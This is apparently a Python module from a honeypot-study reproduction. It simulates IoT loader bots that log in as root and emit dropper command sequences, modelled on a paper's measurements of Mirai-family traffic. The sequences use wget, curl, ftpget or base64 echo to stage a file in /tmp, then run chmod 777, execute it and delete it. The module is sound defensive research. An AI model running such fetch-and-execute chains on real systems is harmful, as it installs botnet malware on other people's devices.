"""Generic loader bots — the paper's ``gen_*`` categories.

A loader session introduces a file using some combination of the four
introduction methods the paper keys on (``wget``, ``curl``, ``ftp``,
``echo``), optionally executes it, then cleans up.  These are the
minimal dropper chains behind Cluster 1's Mirai/Dofloo/CoinMiner/Gafgyt
mix (section 6) and the bulk of Figures 3 and 4.

Whether the honeypot *captures* the dropped file depends on whether the
storage host serves it content: the per-era capture probability is the
mechanism behind Figure 4(a)'s collapse of "file exists" sessions after
2022 (attackers increasingly refuse honeypots or switch to uncapturable
channels).
"""

from __future__ import annotations

import base64
import random
from datetime import date
from typing import Callable

from repro.attackers.activity import (
    ActivityModel,
    Campaign,
    ConstantRate,
    LinearTrend,
    Wave,
)
from repro.attackers.base import SAFE_NAME_ALPHABET, Bot, BotContext
from repro.attackers.dictionary import root_credential
from repro.attackers.ippool import ClientIPPool
from repro.attackers.malware import MalwareFamily
from repro.config import SimulationConfig
from repro.honeypot.session import ConnectionIntent
from repro.net.population import BasePopulation
from repro.util.rng import RngTree

#: Cluster-1's family mix (section 6).
C1_FAMILIES = (
    MalwareFamily.MIRAI,
    MalwareFamily.DOFLOO,
    MalwareFamily.COINMINER,
    MalwareFamily.GAFGYT,
)

#: Filenames that never collide with a token-based category regex.
NEUTRAL_FILENAMES = ("bins.sh", "x86", "run.sh", "a.out", "sys.armv7l")

CaptureFn = Callable[[date], float]

_ERA_BREAK = date(2023, 1, 1)


def era_capture(day: date) -> float:
    """Default capture probability: high in 2022, near-zero after.

    Reproduces the Figure 4(a) shift from >100k "file exists" sessions
    per month in 2022 to ~5k/month from 2023 on.
    """
    return 0.28 if day < _ERA_BREAK else 0.02


def random_filename(rng: random.Random) -> str:
    if rng.random() < 0.4:
        return rng.choice(NEUTRAL_FILENAMES)
    return "".join(rng.choice(SAFE_NAME_ALPHABET) for _ in range(6))


def loader_lines(
    rng: random.Random,
    tools: tuple[str, ...],
    host_ip: str,
    filename: str,
    payload_b64: str | None,
    exec_file: bool,
) -> tuple[str, tuple[str, ...]]:
    """Build a dropper command sequence.

    Returns ``(download_url, lines)``; the URL is empty when the session
    introduces the file via echo only.
    """
    lines: list[str] = ["cd /tmp || cd /var/run || cd /mnt"]
    url = ""
    fetches: list[str] = []
    if "wget" in tools:
        url = f"http://{host_ip}/{filename}"
        fetches.append(f"wget {url} -O {filename}")
    if "curl" in tools:
        url = url or f"http://{host_ip}/{filename}"
        fetches.append(f"curl -o {filename} {url}")
    if "ftp" in tools:
        fetches.append(
            f"ftpget -u anonymous -p anonymous {host_ip} {filename} {filename}"
        )
    if fetches:
        lines.append(" || ".join(fetches))
    if "echo" in tools:
        marker = payload_b64 or base64.b64encode(b"noop").decode("ascii")
        lines.append(f"echo {marker} > {filename}.b64")
        lines.append(f"base64 -d {filename}.b64 > {filename}")
    if exec_file:
        lines.append(f"chmod 777 {filename}")
        lines.append(f"./{filename}")
        lines.append(f"rm -rf {filename}")
    return url, tuple(lines)


class GenLoaderBot(Bot):
    """One ``gen_*`` behaviour: a tool set, a lifetime, a family mix."""

    def __init__(
        self,
        name: str,
        activity: ActivityModel,
        pool: ClientIPPool,
        tools: tuple[str, ...],
        exec_file: bool,
        capture: CaptureFn = era_capture,
        families: tuple[MalwareFamily, ...] = C1_FAMILIES,
        self_host_fraction: float = 0.45,
        strain: str = "default",
    ) -> None:
        super().__init__(name, activity, pool)
        self.tools = tools
        self.exec_file = exec_file
        self.capture = capture
        self.families = families
        self.self_host_fraction = self_host_fraction
        self.strain = strain

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        family = rng.choice(list(self.families))
        sample = ctx.malware.sample_for(
            family, stream=self.name, day_ordinal=day.toordinal(),
            strain=self.strain,
        )
        client = self.client_ip(rng)
        if rng.random() < self.self_host_fraction:
            host_ip = client  # loader served from the attacking host itself
        else:
            host_ip = ctx.infrastructure.pick_host(rng, day).ip
        filename = random_filename(rng)
        captured = rng.random() < self.capture(day)
        uses_echo_payload = "echo" in self.tools and len(self.tools) == 1
        payload_b64 = (
            base64.b64encode(sample.content).decode("ascii")
            if "echo" in self.tools
            else None
        )
        url, lines = loader_lines(
            rng, self.tools, host_ip, filename, payload_b64, self.exec_file
        )
        remote: tuple[tuple[str, bytes], ...] = ()
        if url and (captured or uses_echo_payload):
            remote = ((url, sample.content),)
        if "ftp" in self.tools and captured:
            remote = remote + (
                (f"ftp://{host_ip}/{filename}", sample.content),
            )
        return self.make_intent(
            rng,
            credentials=(root_credential(rng),),
            command_lines=lines,
            remote_files=remote,
            duration_s=rng.uniform(2.0, 25.0),
            client_ip=client,
        )


class DirectExecBot(Bot):
    """Executes a file that was never introduced through the shell.

    Models the attackers who transfer payloads with scp/rsync (which
    Cowrie cannot capture) and then just run them — pure Figure 4(b)
    "file missing" sessions that also land in the *unknown* regex
    category (the paper's ~1M unclassified sessions).
    """

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "direct_exec", population, tree, paper_ips=9_000, scale=config.scale
        )
        activity = LinearTrend(config.start, config.end, 300, 1_100)
        super().__init__("direct_exec", activity, pool)

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        filename = random_filename(rng)
        lines = (
            "cd /tmp",
            f"chmod 777 {filename}",
            f"./{filename}",
        )
        return self.make_intent(
            rng,
            credentials=(root_credential(rng),),
            command_lines=lines,
        )


def build_gen_loader_bots(
    population: BasePopulation, tree: RngTree, config: SimulationConfig
) -> list[Bot]:
    """The roster of ``gen_*`` loader bots (exec and no-exec flavours)."""

    def pool(name: str, paper_ips: int) -> ClientIPPool:
        return ClientIPPool(name, population, tree, paper_ips, config.scale)

    start, end = config.start, config.end
    bots: list[Bot] = []

    def add(
        name: str,
        activity: ActivityModel,
        tools: tuple[str, ...],
        exec_file: bool,
        paper_ips: int = 12_000,
        capture: CaptureFn = era_capture,
    ) -> None:
        bots.append(
            GenLoaderBot(
                name, activity, pool(name, paper_ips), tools, exec_file,
                capture=capture,
            )
        )

    # --- exec flavours (Figures 3(b) and 4) ---
    add("gen_wget", LinearTrend(start, end, 1_700, 350), ("wget",), True)
    add(
        "gen_curl_wget",
        Wave(date(2022, 5, 1), 40, 1_100) + ConstantRate(200, start, end),
        ("curl", "wget"),
        True,
    )
    add(
        "gen_echo_wget",
        Campaign(date(2022, 1, 1), date(2022, 12, 31), 750),
        ("echo", "wget"),
        True,
    )
    add(
        "gen_ftp_wget",
        Campaign(start, date(2023, 6, 30), 500),
        ("ftp", "wget"),
        True,
    )
    add(
        "gen_curl_echo_ftp_wget",
        Wave(date(2022, 6, 15), 30, 1_200),
        ("curl", "echo", "ftp", "wget"),
        True,
    )
    add(
        "gen_curl_ftp_wget",
        Wave(date(2022, 9, 10), 25, 800),
        ("curl", "ftp", "wget"),
        True,
    )
    add(
        "gen_echo_ftp_wget",
        Wave(date(2022, 3, 20), 20, 600),
        ("echo", "ftp", "wget"),
        True,
    )
    add(
        "gen_curl_echo_wget",
        Campaign(date(2022, 2, 1), date(2022, 10, 31), 650),
        ("curl", "echo", "wget"),
        True,
    )
    add("gen_echo", ConstantRate(150, start, end), ("echo",), True)
    add("gen_curl", ConstantRate(250, start, end), ("curl",), True)
    add("gen_ftp", Wave(date(2022, 7, 1), 30, 500), ("ftp",), True)
    add(
        "gen_curl_echo",
        Wave(date(2023, 3, 10), 30, 700),
        ("curl", "echo"),
        True,
    )
    add(
        "gen_echo_ftp",
        Wave(date(2022, 11, 5), 20, 400),
        ("echo", "ftp"),
        True,
    )

    # --- no-exec flavours (Figure 3(a): stage now, run later) ---
    add(
        "gen_curl_echo#noexec",
        ConstantRate(2_000, start, end),
        ("curl", "echo"),
        False,
        paper_ips=18_000,
    )
    add(
        "gen_curl_wget#noexec",
        ConstantRate(1_300, start, end),
        ("curl", "wget"),
        False,
    )
    add(
        "gen_curl#noexec",
        ConstantRate(800, start, end),
        ("curl",),
        False,
    )
    add(
        "gen_echo#noexec",
        ConstantRate(200, start, end),
        ("echo",),
        False,
    )
    bots.append(DirectExecBot(population, tree, config))
    return bots
